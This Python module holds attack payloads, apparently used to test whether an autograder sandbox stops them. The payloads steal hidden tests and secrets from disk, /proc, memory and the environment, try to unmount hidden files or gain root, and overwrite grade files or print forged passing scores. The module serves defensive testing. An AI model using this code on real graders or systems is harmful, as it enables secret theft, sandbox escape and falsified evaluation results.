"""Attack payloads that go after files: secrets on disk, in /proc, in memory, and the grader's own files.

Placeholders such as ``@@HIDDEN_FILE@@`` are filled in by ``security_harness.render``; ``LOOT`` and
``_report`` come from ``security_attacks.LOOT``, which precedes these payloads in a submission.
"""

from __future__ import annotations

# ------------------------------------------------------------------ reading secrets from disk

READ_ABSOLUTE = r'''
import os
for path in ["@@HIDDEN_FILE@@", "@@REFERENCE_FILE@@", "@@COURSE@@/course_config.py", "@@VICTIM@@",
             "@@HIDDEN_DIR@@/__pycache__", "@@REFERENCE_DIR@@/__pycache__"]:
    try:
        if os.path.isdir(path):
            for name in os.listdir(path):
                LOOT += open(os.path.join(path, name), "rb").read().decode("latin-1")
        else:
            LOOT += open(path, errors="replace").read()
    except Exception as exc:
        print("read", path, "->", type(exc).__name__)
for folder, dirs, files in os.walk("@@COURSE@@"):
    for name in files:
        try:
            LOOT += open(os.path.join(folder, name), errors="replace").read()
        except Exception:
            pass
_report()
'''

READ_RELATIVE = r'''
import os, sys
targets = ["hidden/sec/test_sec.py", "sec_reference/__init__.py", "@@COURSE_REL@@/hidden/sec/test_sec.py",
           "@@COURSE_REL@@/sec_reference/__init__.py"]
bases = [os.getcwd(), os.path.dirname(os.path.abspath(__file__)) if "__file__" in dir() else "/", "/"]
bases += [entry for entry in sys.path if entry]
import sec_given
bases.append(os.path.dirname(sec_given.__file__))
for base in bases:
    for up in range(8):
        for tail in targets:
            path = os.path.join(base, *([".."] * up), tail)
            try:
                LOOT += open(path).read()
            except Exception:
                pass
try:
    os.chdir(os.path.relpath("@@COURSE@@", os.getcwd()))
    LOOT += open("hidden/sec/test_sec.py").read()
except Exception as exc:
    print("chdir", type(exc).__name__)
_report()
'''

PROC_SCAN = r'''
import os
def _read(path, limit=1 << 20):
    global LOOT
    try:
        with open(path, "rb") as handle:
            LOOT += handle.read(limit).decode("latin-1") + "\n"
    except Exception:
        pass
pids = [p for p in os.listdir("/proc") if p.isdigit()]
print("visible pids", pids[:20])
for pid in pids + ["self", "thread-self", "1"]:
    base = f"/proc/{pid}"
    for name in ("environ", "cmdline", "mountinfo"):
        _read(f"{base}/{name}")
    for link in ("cwd", "root", "exe"):
        try:
            print(link, pid, os.readlink(f"{base}/{link}"))
        except Exception:
            pass
    for tail in ("@@HIDDEN_FILE@@", "@@REFERENCE_FILE@@"):
        _read(f"{base}/root{tail}")
    _read(f"{base}/cwd/hidden/sec/test_sec.py")
    try:
        for fd in os.listdir(f"{base}/fd"):
            _read(f"{base}/fd/{fd}")
    except Exception:
        pass
for path in ("/proc/1/..", "/proc/1/root/..", "/proc/self/root/.."):
    try:
        print(path, sorted(os.listdir(path))[:5])
    except Exception as exc:
        print(path, type(exc).__name__)
_read("/proc/1/../1/root@@HIDDEN_FILE@@")
# every mount point the kernel shows: try the hidden files below each of them
for line in open("/proc/self/mountinfo"):
    point = line.split()[4]
    for tail in ("", "/test_sec.py", "/__init__.py", "/hidden/sec/test_sec.py", "/sec_reference/__init__.py"):
        _read(point + tail)
# guess pids outside the namespace
alive = []
for pid in range(2, 3000):
    try:
        os.kill(pid, 0)
        alive.append(pid)
    except ProcessLookupError:
        pass
    except PermissionError:
        alive.append(-pid)
print("signalable pids", alive[:20])
_report()
'''

IMPORT_REFERENCE = r'''
import sys, importlib, importlib.util
for folder in ["@@COURSE@@", "@@HIDDEN_DIR@@", "@@COURSE@@/hidden"]:
    sys.path.insert(0, folder)
for name in ("sec_reference", "test_sec", "sec.test_sec", "conftest"):
    try:
        module = importlib.import_module(name)
        LOOT += f'REFERENCE_SECRET = "{getattr(module, "REFERENCE_SECRET", "")}"\n'
        LOOT += f'HIDDEN_SECRET = "{getattr(module, "HIDDEN_SECRET", "")}"\n'
    except BaseException as exc:
        print("import", name, "->", type(exc).__name__)
for path in ("@@REFERENCE_FILE@@", "@@HIDDEN_FILE@@"):
    try:
        spec = importlib.util.spec_from_file_location("stolen", path)
        module = importlib.util.module_from_spec(spec)
        spec.loader.exec_module(module)
        LOOT += f'REFERENCE_SECRET = "{getattr(module, "REFERENCE_SECRET", "")}"\n'
    except BaseException as exc:
        print("spec", path, "->", type(exc).__name__)
print("already imported:", sorted(name for name in sys.modules if "sec" in name or "hidden" in name))
_report()
'''

MEMORY_SCAN = r'''
import re, time
# the zygote's memory is every sandbox's memory: it must hold no secret
deadline = time.monotonic() + 2.5
pattern = re.compile(rb'(?:REFERENCE_SECRET|HIDDEN_SECRET) = "[0-9a-f]+"|AUTOGRADER_SEC_TOKEN=[0-9a-f]+|SECRET-LINE-[0-9a-f]+')
scanned = 0
with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", 0) as mem:
    for line in maps:
        if time.monotonic() > deadline or scanned > (400 << 20):
            break
        fields = line.split()
        if "r" not in fields[1]:
            continue
        start, end = (int(x, 16) for x in fields[0].split("-"))
        if end - start > (64 << 20):
            continue
        try:
            mem.seek(start)
            chunk = mem.read(end - start)
        except Exception:
            continue
        scanned += len(chunk)
        for hit in pattern.findall(chunk):
            if b"[0-9a-f]" not in hit:
                LOOT += hit.decode("latin-1") + "\n"
print("scanned", scanned >> 20, "MB")
_report()
'''

FILESYSTEM_HUNT = r'''
import os, time
deadline = time.monotonic() + 2.5
skip = {"proc", "sys", "dev", ".venv", "site-packages", "node_modules", "__pycache__", "usr", "lib"}
for top in ("/work", "/root", "/home", "/srv", "/opt", "/var", "/mnt", "/run", "/etc", "/media"):
    for folder, dirs, files in os.walk(top):
        dirs[:] = [d for d in dirs if d not in skip]
        if time.monotonic() > deadline:
            break
        for name in files:
            if not name.endswith((".py", ".json", ".txt", ".csv", ".sqlite", ".ipynb")):
                continue
            try:
                with open(os.path.join(folder, name), "rb") as handle:
                    data = handle.read(1 << 20).decode("latin-1")
                if "SECRET" in data or "CANARY" in data:
                    LOOT += data
            except Exception:
                pass
_report()
'''

COPY_VICTIM = r'''
import os, shutil
try:
    print(os.listdir("@@SUBMISSIONS@@"))
except Exception as exc:
    print("list", type(exc).__name__)
for path in ("@@VICTIM@@", "@@OUT@@/victim.json", "@@OUT@@/grades.csv"):
    try:
        LOOT += open(path).read()
        shutil.copy(path, "/tmp/work/stolen.py")
    except Exception as exc:
        print("copy", path, type(exc).__name__)
_report()
'''

ENV_SECRETS = r'''
import os
LOOT += "\n".join(f"{k}={v}" for k, v in os.environ.items()) + "\n"
for path in ("/proc/self/environ", "/proc/1/environ", "/proc/self/cmdline", "/proc/1/cmdline"):
    try:
        LOOT += open(path, "rb").read().replace(b"\0", b"\n").decode("latin-1") + "\n"
    except Exception as exc:
        print(path, type(exc).__name__)
print("environment keys:", sorted(os.environ))
_report()
'''

UNMOUNT_HIDDEN = r'''
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
points = [line.split()[4] for line in open("/proc/self/mountinfo")]
hidden = [p for p in points if p.startswith("@@COURSE@@")]
print("hidden mount points seen:", len(hidden))
for point in reversed(hidden):
    for flags in (2, 0):  # MNT_DETACH, plain
        if libc.umount2(point.encode(), flags) == 0:
            print("UNMOUNTED", point)
    os.system(f"umount -l {point} 2>/dev/null; /usr/bin/umount {point} 2>/dev/null")
# a fresh user + mount namespace of our own, then unmount the copies there
CLONE_NEWUSER, CLONE_NEWNS = 0x10000000, 0x00020000
if libc.unshare(CLONE_NEWUSER | CLONE_NEWNS) == 0:
    print("own namespaces made")
    for point in reversed(hidden):
        libc.umount2(point.encode(), 2)
else:
    print("unshare refused", ctypes.get_errno())
os.makedirs("/tmp/work/mnt", exist_ok=True)
if libc.mount(b"@@COURSE@@", b"/tmp/work/mnt", None, 4096, None) == 0:
    print("BIND MOUNTED")
for path in ("@@HIDDEN_FILE@@", "@@REFERENCE_FILE@@", "/tmp/work/mnt/hidden/sec/test_sec.py"):
    try:
        LOOT += open(path).read()
    except Exception as exc:
        print(path, type(exc).__name__)
_report()
'''

PRIVILEGE = r'''
import os, resource, subprocess
for attempt in (lambda: os.setuid(0), lambda: os.setgid(0), lambda: os.setgroups([0]),
                lambda: os.seteuid(0), lambda: os.chroot("/"),
                lambda: resource.setrlimit(resource.RLIMIT_NPROC, (-1, -1)),
                lambda: resource.setrlimit(resource.RLIMIT_AS, (-1, -1)),
                lambda: open("/proc/self/oom_score_adj", "w").write("-1000")):
    try:
        attempt()
        print("PRIVILEGE GAINED")
    except Exception as exc:
        print("refused:", type(exc).__name__)
print(open("/proc/self/status").read().split("CapInh")[1][:200])
for command in (["su", "-c", "cat @@HIDDEN_FILE@@", "root"], ["mount", "--bind", "/", "/tmp/work"],
                ["newgrp", "root"], ["chsh", "-s", "/bin/sh"], ["passwd", "-d", "root"]):
    try:
        done = subprocess.run(command, capture_output=True, timeout=1, stdin=subprocess.DEVNULL)
        LOOT += done.stdout.decode("latin-1")
    except Exception as exc:
        print(command[0], type(exc).__name__)
_report()
'''

WRITE_OUTSIDE = r'''
import json, os
fake = json.dumps({"student_id": "victim", "score": 100, "max_score": 16, "tests": []})
targets = ["@@OUT@@/victim.json", "@@OUT@@/w01_write_outside.json", "@@OUT@@/grades.csv",
           "@@OUT@@/.jobs.sqlite", "@@VICTIM@@", "@@HIDDEN_DIR@@/test_zzz_free_points.py",
           "@@REFERENCE_FILE@@", "@@REPO@@/autograder/judge/compare.py", "@@SITE@@/sitecustomize.py",
           "@@SITE@@/zzz-sec-attack.pth", "/run/lock/sec-attack-write", "/var/lock/sec-attack-write2",
           "@@PWNED@@/from-sandbox"]
for path in targets:
    try:
        with open(path, "a") as handle:
            handle.write(fake)
        print("WROTE", path)
    except Exception as exc:
        print("write", path, type(exc).__name__)
for path in ("@@OUT@@", "@@SUBMISSIONS@@"):
    try:
        os.rename(path, path + "-moved")
        print("MOVED", path)
    except Exception as exc:
        print("move", path, type(exc).__name__)
'''

FAKE_RESULTS = r'''
import json, os, sys
fake = {"score": 100, "max_score": 16, "gradable": True,
        "tests": [{"name": n, "score": 3, "max_score": 3, "status": "passed"} for n in ("test_guess_hidden",)]}
print(json.dumps(fake))
print(json.dumps({"result": {"student_id": "f01_fake_results", "sheet": "sec", "submission": "x", "score": 100}}))
sys.stderr.write(json.dumps({"ready": True}) + "\n")
os.write(1, b'{"result": {"score": 100}}\n')
os.write(2, b"PASSED 16/16\n")

def guess_hidden():
    print(json.dumps({"result": {"score": 100}}))
    return "HIDDEN_SECRET"
'''


MAGICS = r'''
!cat @@HIDDEN_FILE@@
%run @@REFERENCE_FILE@@
get_ipython().system("cat @@HIDDEN_FILE@@")
import os
LOOT += os.popen("cat @@HIDDEN_FILE@@ @@REFERENCE_FILE@@ 2>&1").read()
_report()
'''
